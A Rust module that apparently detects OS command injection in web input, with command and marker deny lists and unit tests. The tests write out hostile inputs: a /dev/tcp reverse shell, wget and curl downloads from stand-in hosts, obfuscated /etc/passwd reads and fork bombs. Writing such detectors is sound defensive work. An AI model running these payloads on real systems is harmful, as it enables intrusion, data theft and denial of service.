//! OS command injection: a shell command where the shell would start one — after a command
//! separator (`;`, `|`, `&`, `&&`, `||`, newline), inside a substitution (`` `...` ``, `$(...)`),
//! or at the start of the value with shell-style arguments — read the way the shell reads it
//! (quotes and backslashes removed, `$IFS` as a space, `/bin/x` as `x`).
//! Prose that starts with a command name ("echo in the mirror", "ls 300 lexus") passes.

use std::collections::HashMap;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::literals;

/// Commands an attacker runs and prose rarely contains after a separator.
const STRONG: &[&str] = &[
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "perl",
    "python",
    "python2",
    "python3",
    "ruby",
    "php",
    "lua",
    "node",
    "nslookup",
    "getent",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "chmod",
    "chown",
    "passwd",
    "useradd",
    "telnet",
    "tftp",
    "scp",
    "ssh",
    "base64",
    "xxd",
    "nohup",
    "crontab",
    "sudo",
    "su",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "mshta",
    "wmic",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "killall",
    "pkill",
    "ls",
    "id",
    "pwd",
    "printenv",
    "hostname",
    "dig",
    "ping",
    "traceroute",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "rm",
    "mkdir",
    "rmdir",
    "touch",
    "dd",
    "mkfifo",
    "busybox",
    "socat",
    "lwp-download",
    "uptime",
    "ps",
    "net",
    "reg",
    "vssadmin",
    "icacls",
    "cscript",
    "wscript",
    "ftp",
    "sftp",
    "openssl",
    "chattr",
    "iptables",
    "tcpdump",
    "nmap",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "bzip2",
    "cp",
    "mv",
    "ln",
    "lsof",
    "w",
    "sleep",
    "cat",
    "tac",
    "nl",
    "od",
    "strings",
    "grep",
    "egrep",
    "fgrep",
    "find",
    "head",
    "tail",
    "more",
    "less",
    "sort",
    "uniq",
    "wc",
    "cut",
    "tr",
    "env",
    "export",
    "eval",
    "exec",
    "set",
    "echo",
    "printf",
    "type",
    "dir",
    "del",
    "copy",
    "move",
    "ren",
    "rename",
    "start",
    "timeout",
    "kill",
    "chroot",
    "mount",
    "umount",
    "systemctl",
    "service",
    "apt",
    "apt-get",
    "yum",
    "apk",
    "pip",
    "npm",
    "git",
    "docker",
    "kubectl",
    "who",
    "last",
    "date",
    "time",
    "ansible",
    "ansible-playbook",
    "ansible-galaxy",
    "ansible-config",
    "ansible-pull",
    "bsdtar",
    "perf",
    "gdb",
    "strace",
    "ltrace",
    "alias",
    "iwr",
    "iwmi",
    "irm",
    "iex",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-wmimethod",
    "start-process",
    "new-object",
    "vi",
    "vim",
    "nano",
    "c89",
    "c99",
    "gcc",
    "tee",
];

/// Of [`STRONG`], the words that are also common English: they need a shell-style argument.
const WEAK: &[&str] = &[
    "sleep", "cat", "find", "head", "tail", "more", "less", "sort", "cut", "set", "echo", "type",
    "dir", "copy", "move", "start", "kill", "who", "last", "date", "time", "w", "net", "reg",
    "ping", "export", "eval", "exec", "del", "ren", "rename", "timeout", "service", "git", "apt",
    "tar", "zip", "cp", "mv", "ln", "touch", "dd", "printf", "nl", "od", "tr", "wc", "strings",
    "grep", "w", "halt", "node", "mount", "perf",
];

/// Command name → whether it is also an English word (needs a shell-style argument).
static COMMANDS: LazyLock<HashMap<&'static str, bool>> =
    LazyLock::new(|| STRONG.iter().map(|c| (*c, WEAK.contains(c))).collect());

fn is_cmd(word: &str) -> Option<bool> {
    let w = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let w = w.strip_suffix(".exe").unwrap_or(w);
    // `python3.10`, `php7.4`: the interpreter with its version
    let w = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    COMMANDS.get(w).copied()
}

/// Whether `value` (already decoded) is an OS command injection.
pub fn detect(value: &str) -> bool {
    if detect_plain(value) || fork_bomb(value.as_bytes()) || glob_path(value) {
        return true;
    }
    // what the shell makes of `c$@at`, `c${KK}url`, `/bi[n]/bash`, `c''at`
    let unquoted = shell_expand(value);
    unquoted != value && (detect_plain(&unquoted) || super::lfi::detect(&unquoted))
}

/// Remove what a shell removes before running a word: empty or unset expansions (`$@`, `$*`,
/// `${X}`), single-character classes (`[n]`) and empty quotes.
fn shell_expand(v: &str) -> String {
    if !v.contains(['$', '[', '\'', '"']) {
        return v.to_string();
    }
    let b = v.as_bytes();
    let mut out = String::with_capacity(v.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => i += 2,
            b'$' if b.get(i + 1) == Some(&b'{') => match b[i..].iter().position(|&c| c == b'}') {
                Some(close)
                    if b[i + 2..i + close]
                        .iter()
                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_') =>
                {
                    i += close + 1;
                }
                _ => {
                    out.push('$');
                    i += 1;
                }
            },
            b'[' if b.get(i + 2) == Some(&b']') && b[i + 1].is_ascii_alphanumeric() => {
                out.push(char::from(b[i + 1]));
                i += 3;
            }
            b'\'' | b'"' if b.get(i + 1) == Some(&b[i]) => i += 2,
            _ => {
                let len = v[i..].chars().next().map_or(1, char::len_utf8);
                out.push_str(&v[i..i + len]);
                i += len;
            }
        }
    }
    out
}

/// `:(){ :|:& };:` and its renamings: a shell function that pipes itself into itself in the
/// background.
fn fork_bomb(b: &[u8]) -> bool {
    memchr::memmem::find_iter(b, b"()").any(|p| {
        let mut n = p;
        while n > 0 && !b[n - 1].is_ascii_whitespace() && !matches!(b[n - 1], b';' | b'{' | b'}') {
            n -= 1;
        }
        let name = &b[n..p];
        if name.is_empty() || name.len() > 16 {
            return false;
        }
        let body: Vec<u8> = b[p + 2..b.len().min(p + 64)]
            .iter()
            .copied()
            .filter(|c| !c.is_ascii_whitespace())
            .collect();
        let mut call = name.to_vec();
        call.push(b'|');
        call.extend_from_slice(name);
        call.push(b'&');
        body.first() == Some(&b'{') && memchr::memmem::find(&body, &call).is_some()
    })
}

/// A path with shell wildcards that expands to a shell or a sensitive file
/// (`/???/b??h`, `/bin/ca? /et*/passwd`).
fn glob_path(v: &str) -> bool {
    const TARGETS: &[&str] = &[
        "/usr/bin/bash",
        "/usr/bin/sh",
        "/bin/bash",
        "/bin/sh",
        "/bin/dash",
        "/bin/zsh",
        "/bin/cat",
        "/bin/nc",
        "/usr/bin/nc",
        "/usr/bin/wget",
        "/usr/bin/curl",
        "/usr/bin/id",
        "/usr/bin/whoami",
        "/bin/busybox",
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/usr/bin/python3",
        "/usr/bin/perl",
    ];
    if !v.contains(['?', '*', '[']) {
        return false;
    }
    v.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | '=' | '+'))
        .filter(|w| w.starts_with('/') && w.contains(['?', '*', '[']) && w.len() <= 40)
        .any(|w| {
            TARGETS
                .iter()
                .any(|t| glob_match(w.as_bytes(), t.as_bytes()))
        })
}

fn glob_match(p: &[u8], s: &[u8]) -> bool {
    match (p.first(), s.first()) {
        (None, None) => true,
        (Some(b'['), Some(c)) => {
            // `[abc]`, `[a-z]`, `[!abc]`
            let Some(close) = p.iter().position(|&x| x == b']') else {
                return false;
            };
            let class = &p[1..close];
            let (negate, class) = match class.first() {
                Some(b'!' | b'^') => (true, &class[1..]),
                _ => (false, class),
            };
            let mut hit = false;
            let mut k = 0;
            while k < class.len() {
                if k + 2 < class.len() && class[k + 1] == b'-' {
                    hit |= (class[k]..=class[k + 2]).contains(c);
                    k += 3;
                } else {
                    hit |= class[k] == *c;
                    k += 1;
                }
            }
            hit != negate && *c != b'/' && glob_match(&p[close + 1..], &s[1..])
        }
        (Some(b'*'), _) => {
            glob_match(&p[1..], s) || (!s.is_empty() && s[0] != b'/' && glob_match(p, &s[1..]))
        }
        (Some(b'?'), Some(c)) if *c != b'/' => glob_match(&p[1..], &s[1..]),
        (Some(a), Some(c)) if a == c => glob_match(&p[1..], &s[1..]),
        _ => false,
    }
}

fn detect_plain(value: &str) -> bool {
    let b = value.as_bytes();
    if MARKERS.is_match(b) {
        return true;
    }
    let separators = b.iter().any(|c| {
        matches!(
            c,
            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b'>' | b'%'
        )
    });
    if !separators {
        // only the value's own first word can be a command
        let head = value
            .get(..value.len().min(512))
            .unwrap_or(value)
            .to_ascii_lowercase();
        return command_at(head.as_bytes(), 0, false) || windows_batch(&head);
    }
    let lower = value.to_ascii_lowercase();
    let l = lower.as_bytes();
    // at the start: `cat /etc/passwd`, `wget http://x/s.sh`
    if command_at(l, 0, false) || windows_batch(&lower) {
        return true;
    }
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let (after, substitution) = match c {
            b';' | b'\n' | b'\r' => (i + 1, false),
            b'|' | b'&' => {
                let j = if b.get(i + 1) == Some(&c) {
                    i + 2
                } else {
                    i + 1
                };
                (j, false)
            }
            b'`' => (i + 1, true),
            b'$' if matches!(b.get(i + 1), Some(b'(')) => (i + 2, true),
            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (i + 2, true),
            _ => {
                i += 1;
                continue;
            }
        };
        if command_at(l, after, !substitution) {
            return true;
        }
        i = after.max(i + 1);
    }
    false
}

/// Read a shell word starting at `i` (after optional blanks) and decide whether it is a command
/// that would run. `need_args_for_weak`: English-looking commands need a shell-style argument.
fn command_at(l: &[u8], mut i: usize, need_args_for_weak: bool) -> bool {
    while i < l.len() && matches!(l[i], b' ' | b'\t' | b'{' | b'(' | b'!') {
        i += 1;
    }
    let (word, end) = shell_word(l, i);
    if word.is_empty() || l.get(end) == Some(&b'=') {
        // `&id=123`: a URL parameter, not a command
        return false;
    }
    let Some(weak) = is_cmd(&word) else {
        return false;
    };
    let at_start = i == 0
        || l[..i]
            .iter()
            .all(|c| matches!(c, b' ' | b'\t' | b'{' | b'(' | b'!'));
    let arg = next_arg(l, end);
    let quotes = l[i..end]
        .iter()
        .filter(|c| matches!(c, b'\'' | b'"'))
        .count();
    let obfuscated = (quotes > 0 && quotes % 2 == 0) || l[i..end].contains(&b'\\');
    if obfuscated && !weak && word.len() > 2 {
        // `'i'fconfig`, `w\hoami`: quote removal only a shell performs
        return true;
    }
    if word == "alias" && arg.as_deref().is_some_and(|a| a.contains('=')) {
        // `alias e=env&e whoami`: a new name for a command
        return true;
    }
    if PREFIXES.contains(&word.as_str()) {
        // `nohup ifconfig`, `sudo rm`: a command that runs the next word as a command
        if let Some(a) = &arg {
            if is_cmd(a).is_some() {
                return true;
            }
        }
    }
    if at_start {
        // a command at the very start of a value needs a shell-style argument (one of its
        // first few), whatever the command
        if arg
            .as_deref()
            .is_some_and(|a| shell_arg(a, word.contains('/')))
        {
            return true;
        }
        let later = std::str::from_utf8(&l[end..]).unwrap_or("");
        return !weak
            && later.split_whitespace().take(4).any(|a| {
                a.len() > 1 && a.starts_with('-') && a.as_bytes()[1].is_ascii_alphabetic()
            });
    }
    if !weak || !need_args_for_weak {
        return true;
    }
    arg.is_some_and(|a| shell_arg(&a, true))
}

/// Constructs only a command line has.
static MARKERS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    literals(&[
        "$ifs",
        "${ifs",
        "/dev/tcp/",
        "/dev/udp/",
        "%comspec%",
        "%errorlevel%",
        "errorlevel ",
        "for /f ",
        "\"delims=",
        "cmd /c",
        "cmd.exe /c",
        "powershell -",
        "-encodedcommand",
        "invoke-expression",
        "iex(",
        "/bin/sh -c",
        "/bin/bash -c",
        "$shell -c",
        "$((",
        "$[",
        "${shell} -c",
        "$bash -c",
    ])
});

/// Windows batch control flow: `FOR /F %i IN (...) DO ...`, `IF [/I] [NOT] EXIST ...`,
/// `IF %var% EQU 2 ...`, `IF "%a%"=="b" (...)`.
fn windows_batch(l: &str) -> bool {
    if !l.contains("if ") && !l.contains("for ") {
        return false;
    }
    let words: Vec<&str> = l
        .split(|c: char| c.is_whitespace() || matches!(c, '&' | '|' | ';'))
        .filter(|w| !w.is_empty())
        .collect();
    for (i, w) in words.iter().enumerate() {
        let rest = &words[i + 1..words.len().min(i + 12)];
        match *w {
            "for" => {
                let mut k = 0;
                while rest.get(k).is_some_and(|f| f.starts_with('/')) {
                    k += 1;
                }
                let var = rest.get(k).is_some_and(|v| v.starts_with('%'));
                let has_in = rest.iter().any(|x| *x == "in" || x.starts_with("in("));
                let has_do = rest
                    .iter()
                    .any(|x| *x == "do" || x.ends_with(")do") || x.starts_with("do"));
                if var && has_in && has_do {
                    return true;
                }
            }
            "if" => {
                let mut k = 0;
                while matches!(rest.get(k), Some(&("/i" | "not"))) {
                    k += 1;
                }
                match rest.get(k) {
                    Some(&("exist" | "defined" | "errorlevel" | "cmdextversion")) => return true,
                    Some(v) if v.contains('%') => {
                        let cmp = rest.iter().any(|x| {
                            x.contains("==")
                                || matches!(*x, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq")
                        });
                        if cmp {
                            return true;
                        }
                    }
                    _ => {}
                }
            }
            _ => {}
        }
    }
    false
}

/// Whether `word` names a shell command CNAF knows.
pub fn is_command_word(word: &str) -> bool {
    is_cmd(word).is_some()
}

/// Commands that run their argument as a command.
const PREFIXES: &[&str] = &[
    "nohup", "sudo", "xargs", "busybox", "env", "timeout", "nice", "strace", "exec", "eval",
    "time", "watch", "chroot", "su",
];

/// One shell word with quote removal: `c'a't` → `cat`, `\l\s` → `ls`.
fn shell_word(l: &[u8], start: usize) -> (String, usize) {
    let mut w = String::new();
    let mut i = start;
    while i < l.len() && w.len() < 64 {
        match l[i] {
            b'\'' | b'"' | b'\\' => {}
            c if c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-') => {
                w.push(char::from(c));
            }
            _ => break,
        }
        i += 1;
    }
    (w, i)
}

/// The next argument after a command (skipping blanks and `$IFS`-style separators).
fn next_arg(l: &[u8], mut i: usize) -> Option<String> {
    if i >= l.len() || !matches!(l[i], b' ' | b'\t' | b'+' | b'<' | b'>' | b'|' | b';' | b'&') {
        return None;
    }
    if matches!(l[i], b'<' | b'>' | b'|' | b';' | b'&') {
        return Some(char::from(l[i]).to_string());
    }
    while i < l.len() && matches!(l[i], b' ' | b'\t' | b'+') {
        i += 1;
    }
    let start = i;
    while i < l.len() && !matches!(l[i], b' ' | b'\t') && i - start < 128 {
        i += 1;
    }
    (i > start).then(|| String::from_utf8_lossy(&l[start..i]).into_owned())
}

/// An argument only a shell command line has: a path, a flag, a URL, a redirection, a variable,
/// an IP address, a Windows switch.
fn shell_arg(a: &str, loose: bool) -> bool {
    let b = a.as_bytes();
    let Some(&first) = b.first() else {
        return false;
    };
    match first {
        b'/' | b'~' | b'$' | b'>' | b'<' | b'|' | b'&' | b';' | b'`' | b'\\' => true,
        b'-' => {
            b.len() > 1
                && (b[1].is_ascii_alphabetic()
                    || (b[1] == b'-' && b.get(2).is_some_and(u8::is_ascii_alphabetic)))
        }
        b'.' => b.get(1) == Some(&b'/') || b.get(1) == Some(&b'.'),
        _ => {
            a.contains("://")
                || a.contains("/etc/")
                || (loose && a.contains('/') && !a.contains(' '))
                || is_ipv4ish(a)
                || (loose && a.contains('\'') && a.len() > 2)
        }
    }
}

fn is_ipv4ish(a: &str) -> bool {
    let parts: Vec<&str> = a.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|c| c.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn payloads() {
        for a in [
            ";/sbin/shutdown",
            "; cat /et'c/pa'ss'wd",
            "cmd=127.0.0.1 && ls /etc",
            "ax--exec=`id`--remote=origin",
            ";wget http://some_host/sh311.sh",
            "|getent hosts somehost.example.net.&",
            ";getent$IFS$9hosts$IFS$9somehost;echo$IFS$9$((3482*7301));",
            "| set /a 3482*7301",
            "$(whoami)",
            "127.0.0.1; ping -c 3 example.com",
            "x || curl http://evil",
            "cat /etc/passwd",
            "wget http://example.com/x.sh",
            "a\nid\n",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "nohup ifconfig",
            "ansible all -m ping",
            "/etc/pas[s]wd",
            "www.google.com;c$@at /et$@c/pas$@swd",
            "alias a=c${KK}url&a google.com",
            ":(){ :|:& };:",
            "f(){ f|f& };f",
            "/???/b??h",
            "/etc/[!abc]asswd",
            "/usr/[a-z]in/bash",
            "$((3482*7301))",
            ">(tee log)",
            "www.google.com;/bin/ca? /et*/passwd",
            ";iwr http://example.com/path/file.ps1",
            "$SHELL -c \"echo hi\"",
            "'i'fconfig",
            "python3.10 -c 'import os'",
            "IF %ERRORLEVEL% EQU 2 goto x",
            "for /l %%I in (0,1,5) do call echo %%RANDOM%%",
            "IF /I NOT EXIST C:\\nonexistent echo hey",
            "IF /I \"%var%\"==\"hello, world!\" ( ECHO found )",
        ] {
            assert!(detect(a), "missed: {a}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "echo in the mirror",
            "curl and divergence",
            "exec noun",
            "bash away in the gym",
            "zsh is the best!",
            "ls 300 lexus",
            "nc 8000 controller",
            "Tom & Jerry",
            "salt & pepper; cat food",
            "R&D department",
            "a | b | c",
            "time he came.",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            "rock & roll",
            "Q&A",
            "time is money",
            "Is it 50% off? [y] or [n]",
            "What's ${price}?",
            "function f() { return a || b && c; }",
            "if you exist, call me",
            "for all of us in the team, do your best",
            "Nice to meet you",
            "I'd watch it again",
            "https://app.example.com/dashboard?action=edit&id=123",
        ] {
            assert!(!detect(b), "false positive: {b}");
        }
    }
}
